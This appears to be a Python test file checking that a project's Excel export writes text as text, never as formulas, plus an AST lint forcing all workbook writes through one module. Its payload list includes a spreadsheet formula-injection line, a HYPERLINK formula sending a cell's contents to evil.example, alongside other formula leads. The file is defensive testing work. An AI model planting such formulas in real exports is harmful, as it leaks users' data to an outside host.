"""The Excel writing path: text stays text (no formula, ever), numbers and dates stay what they
are, and every workbook of the project is written through it (an AST lint)."""

import ast
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from core.excel import new_workbook, workbook_bytes, write_row

# What an adversarial run put into a public question, and the other formula leads: every export's
# test writes these into the records it exports.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "+cmd",
    "-1+1",
    "@SUM(A1)",
]
PAYLOADS = [
    *FORMULA_PAYLOADS,
    "\tcmd",
    "\r=1+1",
    "#N/A",
]
ROOT = Path(__file__).resolve().parents[2]
APPS = ["core", "villages", "cadres", "ledgers", "supervision", "reports"]


def reread(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def assert_no_formula(content: bytes, *texts: str) -> None:
    """No cell of any sheet is a formula, and each of `texts` is in some cell, as typed."""
    wb = reread(content)
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    # XML reads a carriage return back as a line feed.
    missing = [t for t in texts if not any(t.replace("\r", "\n") in v for v in values)]
    assert missing == []


def test_text_is_text_and_numbers_and_dates_stay_numbers_and_dates():
    wb = new_workbook()
    write_row(wb.active, [*PAYLOADS, 12, Decimal("-3.50"), -7, dt.date(2026, 3, 1), None, "普通"])
    content = workbook_bytes(wb)
    assert_no_formula(content, *PAYLOADS)
    [row] = reread(content).active.iter_rows()
    assert [c.value for c in row[: len(PAYLOADS)]] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(c.data_type == "s" for c in row[: len(PAYLOADS)])
    number, money, negative, day, blank, plain = row[len(PAYLOADS) :]
    assert (number.value, number.data_type) == (12, "n")
    assert (money.value, money.data_type) == (-3.5, "n")
    assert (negative.value, negative.data_type) == (-7, "n")
    assert day.is_date and day.value.date() == dt.date(2026, 3, 1)
    assert blank.value is None
    assert (plain.value, plain.quotePrefix) == ("普通", False)


def test_cells_written_directly_are_made_text_when_saved():
    # A cell set outside write_row (a style pass, a future export) is still swept on saving.
    wb = new_workbook()
    wb.active["A1"] = "=1+1"
    wb.create_sheet("二")["B2"] = "+cmd"
    assert_no_formula(workbook_bytes(wb), "=1+1", "+cmd")


def test_control_characters_an_xlsx_cannot_hold_are_dropped_not_a_crash():
    wb = new_workbook()
    write_row(wb.active, ["村\x00委\x07会", "换行\n保留"])
    [row] = reread(workbook_bytes(wb)).active.iter_rows(values_only=True)
    assert row == ("村委会", "换行\n保留")


def test_an_empty_workbook_has_no_sheet():
    assert new_workbook(empty=True).worksheets == []


# ---------------------------------------------------------------------------- the lint


def workbook_writes(path: Path):
    """Places that make a workbook or put a value into a cell other than through core.excel."""
    tree = ast.parse(path.read_text())

    def sheet(name: str) -> bool:
        return name == "ws" or name.endswith("_ws")

    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            receiver = getattr(getattr(func, "value", None), "id", "")
            if name == "Workbook":
                yield node.lineno, "Workbook() outside core.excel.new_workbook"
            elif name == "save" and receiver == "wb":
                yield node.lineno, "wb.save outside core.excel.workbook_bytes"
            elif name == "append" and sheet(receiver):
                yield node.lineno, "ws.append outside core.excel.write_row"
            elif name == "cell" and any(k.arg == "value" for k in node.keywords):
                yield node.lineno, "cell(value=...) outside core.excel.write_row"
        targets = node.targets if isinstance(node, ast.Assign) else []
        for target in targets:
            if isinstance(target, ast.Subscript) and sheet(getattr(target.value, "id", "")):
                yield node.lineno, "ws[...] = outside core.excel.write_row"
            if isinstance(target, ast.Attribute) and target.attr == "value":
                if getattr(target.value, "id", "") == "cell":
                    yield node.lineno, "cell.value = outside core.excel.write_row"


MODULES = [
    p
    for app in APPS
    for p in (ROOT / app).rglob("*.py")
    if "tests" not in p.parts and "migrations" not in p.parts and p != ROOT / "core/excel.py"
]


@pytest.mark.parametrize("path", MODULES, ids=lambda p: str(p.relative_to(ROOT)))
def test_every_workbook_is_written_through_core_excel(path):
    assert list(workbook_writes(path)) == []


def test_the_lint_catches_direct_writes(tmp_path):
    module = tmp_path / "exports.py"
    module.write_text(
        "import openpyxl\n"
        "wb = openpyxl.Workbook()\n"
        "ws = wb.active\n"
        "ws.append(['=1'])\n"
        "ws.cell(row=1, column=1, value='=1')\n"
        "ws['A1'] = '=1'\n"
        "cell.value = '=1'\n"
        "wb.save('x.xlsx')\n"
        "rows.append(1)\n"
        "help_ws.append(['=1'])\n"
    )
    assert sorted(line for line, _why in workbook_writes(module)) == [2, 4, 5, 6, 7, 8, 10]
